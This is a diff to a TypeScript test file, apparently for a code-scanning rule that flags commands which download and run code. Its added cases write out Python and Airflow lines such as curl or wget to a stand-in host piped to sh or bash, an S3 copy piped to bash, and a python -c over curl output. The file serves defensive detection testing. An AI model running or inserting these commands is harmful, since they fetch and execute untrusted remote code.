@@ -5,6 +5,18 @@ const places = (text: string) => placesIn("SEC-011", text);
 
 describe("commands that run what they download", () => {
   test.each([
+    ["a file that is run", 'import os\nos.system("curl -s https://example.org/i > i.sh; sh i.sh")\n'],
+    [
+      "a file that is made a program",
+      'import os\nos.system("wget -O /tmp/i https://example.org/i && chmod +x /tmp/i && /tmp/i")\n',
+    ],
+    ["another language", `import os\nos.system('python3 -c "$(curl -s https://example.org/i)"')\n`],
+    ["xargs", 'import os\nos.system("curl -s https://example.org/i | xargs -I{} sh -c {}")\n'],
+    ["a bucket", 'import os\nos.system("aws s3 cp s3://acme/i.sh - | bash")\n'],
+    [
+      "words for a process",
+      'import asyncio\nasyncio.create_subprocess_exec("sh", "-c", "curl -s https://example.org/i | sh")\n',
+    ],
     [
       "curl to bash",
       'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="curl -sSL https://example.org/i.sh | bash")\n',
@@ -63,6 +75,8 @@ describe("commands that run what they download", () => {
       "no shell",
       'from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator\nKubernetesPodOperator(cmds=["echo"], arguments=["curl https://example.org/i.sh | sh"])\n',
     ],
+    ["data that is read", 'import os\nos.system("curl -so d.csv https://example.org/d; python load.py d.csv")\n'],
+    ["data by words", "import os\nos.system(\"curl -s https://example.org/l | xargs -I{} sh -c 'echo {}'\")\n"],
   ])("not: %s", async (_, text) => {
     expect(await places(text)).toEqual([]);
   });
